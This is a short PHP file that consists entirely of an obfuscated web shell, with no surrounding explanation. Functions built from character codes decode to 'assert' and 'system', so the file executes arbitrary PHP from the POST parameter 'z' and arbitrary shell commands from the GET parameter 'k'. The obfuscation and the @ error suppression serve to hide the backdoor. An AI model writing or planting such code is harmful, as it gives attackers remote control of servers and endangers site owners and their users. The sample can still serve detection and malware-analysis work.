<?php $e = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $e(stripslashes($_POST['z']));
@eval(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109).'($_GET["k"]);');
